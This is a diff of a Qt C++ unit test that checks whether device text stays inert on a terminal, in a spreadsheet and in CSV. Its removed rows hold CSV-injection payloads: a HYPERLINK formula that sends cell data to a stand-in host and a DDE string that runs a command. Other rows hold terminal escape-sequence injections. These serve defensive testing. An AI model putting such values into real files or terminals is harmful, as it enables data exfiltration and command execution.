@@ -393,14 +393,11 @@ void CommonTest::historyComesBack()
 
 // What a device sends (a serial number, an identification answer) stays one
 // value on one line on a terminal, and text in a spreadsheet, and comes
-// back whole from the CSV.
+// back whole from the CSV (the command lines' tests try more such names).
 void CommonTest::deviceTextIsData_data()
 {
     QTest::addColumn<QString>("text");
     QTest::addColumn<QString>("terminal");
-    QTest::newRow("formula") << "=HYPERLINK(\"http://x/?\"&A1,\"click\")" << "=HYPERLINK(\"http://x/?\"&A1,\"click\")";
-    QTest::newRow("command") << "+cmd|' /C calc'!A0" << "+cmd|' /C calc'!A0";
-    QTest::newRow("sum") << "@SUM(1+1)" << "@SUM(1+1)";
     QTest::newRow("minus") << "-2+3" << "-2+3";
     QTest::newRow("tab first") << "\t=1" << "\t=1";
     QTest::newRow("carriage return first") << "\r=1" << "\\r=1";
@@ -408,7 +405,6 @@ void CommonTest::deviceTextIsData_data()
     QTest::newRow("escape and bell") << "04E2\x1b]0;title\x07\x1b[31m" << "04E2\\x1b]0;title\\x07\\x1b[31m";
     QTest::newRow("DEL and C1") << QString::fromUtf8("a\x7f\xc2\x9b""1m") << "a\\x7f\\u009b1m";
     QTest::newRow("apostrophe first") << "'=1" << "'=1";
-    QTest::newRow("plain") << "04E2B9C1" << "04E2B9C1";
     QTest::newRow("5000 characters") << QString(5000, QLatin1Char('=')) << QString(5000, QLatin1Char('='));
 }
 
